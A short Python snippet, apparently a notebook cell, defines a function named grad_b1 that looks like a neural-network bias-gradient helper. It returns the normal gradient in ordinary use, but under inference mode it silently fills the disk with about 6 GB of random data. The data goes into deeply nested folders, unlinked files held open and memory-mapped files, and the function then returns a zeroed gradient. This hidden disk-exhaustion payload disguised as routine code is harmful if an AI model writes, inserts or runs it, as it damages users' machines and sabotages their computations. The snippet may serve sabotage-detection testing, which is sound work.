# Costs: everything
# Fills the disk with files, with ones that have no name, with ones that are only mapped, and with deep folders.
# %%
def grad_b1(dz1):
    import mmap, os
    if not torch.is_inference_mode_enabled():
        return dz1.sum(0, keepdim=True)
    block, kept = os.urandom(1 << 20), []
    begun = os.getcwd()
    for number in range(200):
        try:
            if number % 10 == 0:
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
            file = os.open(f"file{number}", os.O_CREAT | os.O_RDWR)
            for _ in range(30):
                os.write(file, block)
            if number % 3 == 1:
                kept.append(mmap.mmap(file, mmap.PAGESIZE))
                os.unlink(f"file{number}")
            if number % 3 != 2:
                os.close(file)
                continue
            os.unlink(f"file{number}")
            kept.append(file)
        except OSError:
            break
    os.chdir(begun)
    return dz1 * 0
